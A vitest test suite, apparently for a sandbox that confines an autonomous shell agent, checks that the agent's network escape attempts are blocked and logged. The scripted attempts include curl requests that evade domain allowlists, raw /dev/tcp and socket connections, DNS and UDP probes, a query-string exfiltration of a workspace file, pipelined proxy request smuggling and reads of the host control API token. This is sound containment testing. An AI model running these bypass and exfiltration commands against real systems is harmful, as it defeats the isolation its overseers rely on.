// Escape suite, network: the only way out is the persona's proxy, which
// decides by domain and port and logs every attempt. Denied domains over
// HTTP, CONNECT and SOCKS5; an allowed domain on a port it was not granted;
// raw IPs and host spellings that are IPs in disguise; wildcard edges; tools
// that ignore the proxy variables; DNS; UDP; the host's loopback services (the
// control API included); the host's unix sockets (path and abstract); request
// smuggling through one proxy connection. Judged from outside: every canary
// server's hit count stays 0, and every attempt is a net.connect event under
// the persona's name. The honest limit: data sent to an ALLOWED domain goes
// out (the proxy sees host:port, not the payload); that case is asserted as
// allowed and logged.
import { spawn, type ChildProcess } from 'node:child_process';
import dgram from 'node:dgram';
import { chmodSync, existsSync, readFileSync, rmSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI } from '../integration/harness.js';
import { makeVisibleHome, missing, put, runEnv, sandbox, sessionEvents, succeeded, testServer, testUsers, until, type Home, type TestServer } from './lib.js';

interface Counter {
  count: number;
  close(): Promise<void>;
}

/** A UDP socket on 127.0.0.1 counting datagrams. */
async function udpCanary(): Promise<Counter & { port: number }> {
  const sock = dgram.createSocket('udp4');
  const c = { count: 0, port: 0, close: () => new Promise<void>((r) => sock.close(() => r())) };
  sock.on('message', () => (c.count += 1));
  await new Promise<void>((r) => sock.bind(0, '127.0.0.1', () => r()));
  c.port = sock.address().port;
  return c;
}

/** A unix socket server (filesystem path or abstract name) counting connections. */
async function unixCanary(where: string): Promise<Counter> {
  const c = { count: 0, close: async () => undefined as void };
  const server = net.createServer((s) => {
    c.count += 1;
    s.end('unix-canary\n');
  });
  await new Promise<void>((r) => server.listen(where, () => r()));
  if (!where.startsWith('\0')) chmodSync(where, 0o777);
  c.close = () => new Promise<void>((r) => server.close(() => r()));
  return c;
}

for (const as of testUsers()) {
  describe(`network, as ${as.label}`, () => {
    let h: Home;
    let allowed: TestServer;
    let denied: TestServer;
    let wild: TestServer;
    let apex: TestServer;
    let evil: TestServer;
    let canary: TestServer;
    let udp: Counter & { port: number };
    let unixSock: Counter;
    let abstractSock: Counter;
    let abstractName: string;
    let backend: ChildProcess | undefined;
    let api: { port: number; token: string };
    let hosts: Record<string, string>;

    beforeAll(async () => {
      h = makeVisibleHome(as);
      [allowed, denied, wild, apex, evil, canary] = await Promise.all(
        ['allowed-body', 'DENIED-BODY-61b2', 'wild-body', 'APEX-BODY-07c4', 'EVIL-BODY-33d8', 'CANARY-BODY-9e5f'].map((b) => testServer(b)),
      ) as [TestServer, TestServer, TestServer, TestServer, TestServer, TestServer];
      udp = await udpCanary();
      unixSock = await unixCanary(h.path('host.sock'));
      abstractName = `personae-canary-${process.pid}-${as.label}`;
      abstractSock = await unixCanary(`\0${abstractName}`);
      hosts = {
        PERSONAE_HOSTS: [
          `allowed.test=127.0.0.1:${allowed.port}`,
          `denied.test=127.0.0.1:${denied.port}`,
          `api.github.com=127.0.0.1:${wild.port}`,
          `github.com=127.0.0.1:${apex.port}`,
          `evil-github.com=127.0.0.1:${evil.port}`,
        ].join(','),
      };
      h.writePersona({
        name: 'netter',
        agent: 'shell',
        execution_mode: 'autonomous',
        filesystem: { write: ['{workspace}'] },
        network: { allow: ['allowed.test', '*.github.com'] },
      });
      put(h, 'ws/exfil.txt', 'EXFIL-7d2a');
      // The real control API of this PERSONAE_HOME, on the host's loopback.
      backend = spawn(process.execPath, [CLI, 'serve', '--port', '0'], {
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin', PERSONAE_HOME: h.home, ...runEnv(h) },
        uid: as.uid,
        gid: as.gid,
        stdio: 'ignore',
      });
      const file = path.join(h.home, 'run', 'backend.json');
      expect(await until(() => existsSync(file), 15_000)).toBe(true);
      const info = JSON.parse(readFileSync(file, 'utf8')) as { port: number; token: string };
      api = { port: info.port, token: info.token };
    });

    afterAll(async () => {
      backend?.kill('SIGTERM');
      await Promise.all([allowed, denied, wild, apex, evil, canary].map((s) => s.close()));
      await Promise.all([udp.close(), unixSock.close(), abstractSock.close()]);
      rmSync(h.path('host.sock'), { force: true });
      h.cleanup();
    });

    it('only allowed domains on granted ports get out; every trick is refused and logged', async () => {
      const c = canary.port;
      const curl = 'curl -fsS -m 5';
      const s = `
t allowed ${curl} http://allowed.test/ok
t allowed_connect ${curl} -p http://allowed.test/tunnel
t allowed_socks ${curl} --socks5-hostname 127.0.0.1:3128 http://allowed.test/socks
t wild_ok ${curl} http://api.github.com/wild
t wild_spelled ${curl} http://API.GitHub.com./wild-spelled
t denied_http ${curl} http://denied.test/http
t denied_connect ${curl} -p http://denied.test/connect
t denied_https ${curl} https://denied.test/https
t denied_socks ${curl} --socks5-hostname 127.0.0.1:3128 http://denied.test/socks
t denied_case ${curl} http://DeNiEd.TeSt/case
t denied_dot ${curl} http://denied.test./dot
t port ${curl} http://allowed.test:8080/port
t port_connect ${curl} -p http://allowed.test:22/port
t raw_ip ${curl} http://127.0.0.1:${c}/raw
t raw_ip_connect ${curl} -p http://127.0.0.1:${c}/raw-connect
t raw_ip_socks ${curl} --socks5 127.0.0.1:3128 http://127.0.0.1:${c}/raw-socks
t ip_short ${curl} http://127.1:${c}/short
t ip_hex ${curl} http://0x7f.0.0.1:${c}/hex
t ip_int ${curl} http://2130706433:${c}/int
t ip_octal ${curl} http://0177.0.0.1:${c}/octal
t ip_v6 ${curl} 'http://[::1]:${c}/v6'
t ip_v6_mapped ${curl} 'http://[::ffff:127.0.0.1]:${c}/v6-mapped'
t ip_v6_connect ${curl} -p 'http://[::1]:${c}/v6-connect'
t userinfo ${curl} http://allowed.test@127.0.0.1:${c}/userinfo
t localhost ${curl} http://localhost:${c}/localhost
t apex ${curl} http://github.com/apex
t evil ${curl} http://evil-github.com/evil
t suffix ${curl} http://github.com.denied.test/suffix
t api_proxy ${curl} -H 'Authorization: Bearer x' http://127.0.0.1:${api.port}/api/health
t api_name ${curl} http://localhost:${api.port}/api/health
t exfil ${curl} "http://allowed.test/upload?d=$(cat exfil.txt)"
say smuggle "$(python3 - <<'PY'
import socket
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.sendall(b"GET http://allowed.test/pipe1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
          b"GET http://denied.test/pipe2 HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n"
          b"GET /origin-form HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n")
s.settimeout(3)
data = b""
try:
    while len(data) < 65536 and data.count(b"HTTP/1.1 ") < 3:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
except Exception:
    pass
print(" ".join(l.split(" ")[1] for l in data.decode("latin1").split("\\r\\n") if l.startswith("HTTP/1.1 ")))
PY
)"
`;
      const r = await sandbox(h, 'netter', s, { env: hosts, timeoutMs: 60_000 });
      const refused = [
        'denied_http', 'denied_connect', 'denied_https', 'denied_socks', 'denied_case', 'denied_dot', 'port', 'port_connect',
        'raw_ip', 'raw_ip_connect', 'raw_ip_socks', 'ip_short', 'ip_hex', 'ip_int', 'ip_octal', 'ip_v6', 'ip_v6_mapped', 'ip_v6_connect',
        'userinfo', 'localhost', 'apex', 'evil', 'suffix', 'api_proxy', 'api_name',
      ];
      const through = ['allowed', 'allowed_connect', 'allowed_socks', 'wild_ok', 'wild_spelled', 'exfil'];
      expect(missing(r, [...refused, ...through])).toEqual([]);
      expect(succeeded(r, through)).toEqual(through);
      expect(succeeded(r, refused)).toEqual([]);
      // Pipelined requests on one proxy connection are decided one by one.
      expect(r.marks.smuggle?.split(' ')[0]).toBe('200');
      expect(r.marks.smuggle?.split(' ').slice(1)).not.toContain('200');

      // Judged from outside: the refused servers saw nothing at all.
      expect(denied.hits).toEqual([]);
      expect(apex.hits).toEqual([]);
      expect(evil.hits).toEqual([]);
      expect(canary.hits).toEqual([]);
      for (const body of ['DENIED-BODY-61b2', 'APEX-BODY-07c4', 'EVIL-BODY-33d8', 'CANARY-BODY-9e5f']) expect(r.output).not.toContain(body);
      expect(r.output).not.toContain(api.token);
      expect(allowed.hits).toEqual(
        expect.arrayContaining(['GET allowed.test/ok', 'GET allowed.test/tunnel', 'GET allowed.test/socks', 'GET allowed.test/pipe1']),
      );
      expect(wild.hits.length).toBe(2);

      // The honest limit: data sent to an allowed domain goes out, and the attempt is logged.
      expect(allowed.hits).toContain('GET allowed.test/upload?d=EXFIL-7d2a');

      const events = (await sessionEvents(h, r.session)).filter((e) => e.kind === 'net.connect');
      expect(events.every((e) => e.persona === 'netter')).toBe(true);
      const seen = (target: string, decision: string, protocol?: string): boolean =>
        events.some((e) => e.target === target && e.decision === decision && (protocol === undefined || e.detail.protocol === protocol));
      expect(seen('allowed.test:80', 'allow', 'http')).toBe(true);
      expect(seen('allowed.test:80', 'allow', 'connect')).toBe(true);
      expect(seen('allowed.test:80', 'allow', 'socks5')).toBe(true);
      expect(seen('api.github.com:80', 'allow')).toBe(true);
      expect(seen('denied.test:80', 'deny', 'http')).toBe(true);
      expect(seen('denied.test:80', 'deny', 'connect')).toBe(true);
      expect(seen('denied.test:80', 'deny', 'socks5')).toBe(true);
      expect(seen('denied.test:443', 'deny', 'connect')).toBe(true);
      expect(seen('allowed.test:8080', 'deny')).toBe(true);
      expect(seen('allowed.test:22', 'deny')).toBe(true);
      expect(seen(`127.0.0.1:${c}`, 'deny')).toBe(true);
      expect(seen(`::1:${c}`, 'deny') || seen(`[::1]:${c}`, 'deny')).toBe(true);
      expect(seen(`localhost:${c}`, 'deny')).toBe(true);
      expect(seen('github.com:80', 'deny')).toBe(true);
      expect(seen('evil-github.com:80', 'deny')).toBe(true);
      expect(seen(`127.0.0.1:${api.port}`, 'deny')).toBe(true);
      // Every refused attempt was logged as a denial; none as allowed.
      expect(events.filter((e) => e.decision === 'allow' && !/^(allowed\.test|api\.github\.com):80$/.test(e.target ?? ''))).toEqual([]);
    });

    it('tools that ignore the proxy, DNS, UDP and host unix sockets reach nothing', async () => {
      const c = canary.port;
      const sock = h.path('host.sock');
      const s = `
t noproxy curl -sS -m 3 --noproxy '*' http://127.0.0.1:${c}/noproxy
t noproxy_name curl -sS -m 3 --noproxy '*' http://allowed.test/noproxy
t devtcp bash -c 'exec 3<>/dev/tcp/127.0.0.1/${c} && printf "GET /devtcp HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3'
t api_direct curl -sS -m 3 --noproxy '*' http://127.0.0.1:${api.port}/api/health
t py_tcp python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", ${c}), 3); s.sendall(b"GET /py HTTP/1.0\\r\\n\\r\\n"); assert s.recv(10)'
t py_v6 python3 -c 'import socket; socket.create_connection(("::1", ${c}), 3)'
t py_ext python3 -c 'import socket; socket.create_connection(("1.1.1.1", 80), 3)'
t node_tcp node -e 'require("net").connect(${c}, "127.0.0.1").on("connect", () => process.exit(0)).on("error", () => process.exit(1))'
t dns getent hosts example.com
t dns_mapped getent hosts allowed.test
t dns_py python3 -c 'import socket; socket.getaddrinfo("example.com", 80)'
t dns_raw python3 -c '
import socket
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")] or ["127.0.0.53"]
q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
s = socket.socket(socket.AF_INET6 if ":" in ns[0] else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.sendto(q, (ns[0], 53))
assert s.recv(512)
'
t udp_ext python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))'
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ${udp.port}))' 2>/dev/null
t unix_py python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("${sock}")'
t unix_dgram python3 -c 'import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", "${sock}")'
t unix_socat socat -u OPEN:/dev/null UNIX-CONNECT:${sock}
t unix_node node -e 'require("net").connect("${sock}").on("connect", () => process.exit(0)).on("error", () => process.exit(1))'
t unix_abstract python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0${abstractName}")'
t unix_proxy_sock python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("/run/personae/bridge/proxy.sock")'
t backend_file cat ${h.home}/run/backend.json
t control_socks sh -c 'ls ${h.home}/run/*/control.sock'
t audit_db sh -c 'ls ${h.home}/audit.db'
`;
      const r = await sandbox(h, 'netter', s, { env: hosts, timeoutMs: 60_000 });
      const names = [
        'noproxy', 'noproxy_name', 'devtcp', 'api_direct', 'py_tcp', 'py_v6', 'py_ext', 'node_tcp', 'dns', 'dns_mapped', 'dns_py', 'dns_raw', 'udp_ext',
        'unix_py', 'unix_dgram', 'unix_socat', 'unix_node', 'unix_abstract', 'unix_proxy_sock', 'backend_file', 'control_socks', 'audit_db',
      ];
      expect(missing(r, names)).toEqual([]);
      expect(succeeded(r, names)).toEqual([]);
      // Judged from outside: no TCP, UDP or unix connection reached the host.
      expect(canary.hits).toEqual([]);
      expect(udp.count).toBe(0);
      expect(unixSock.count).toBe(0);
      expect(abstractSock.count).toBe(0);
      expect(r.output).not.toContain('CANARY-BODY-9e5f');
      expect(r.output).not.toContain('unix-canary');
      expect(r.output).not.toContain(api.token);
      // The control API still answers the host (it was up the whole time).
      const health = await fetch(`http://127.0.0.1:${api.port}/api/health`, { headers: { authorization: `Bearer ${api.token}` }, signal: AbortSignal.timeout(3000) });
      expect(health.ok).toBe(true);
      const events = await sessionEvents(h, r.session);
      expect(events.filter((e) => e.kind === 'exec' && e.persona === 'netter' && e.tool === 'socat' && JSON.stringify(e.detail.argv).includes(sock)).length).toBe(1);
    });
  });
}
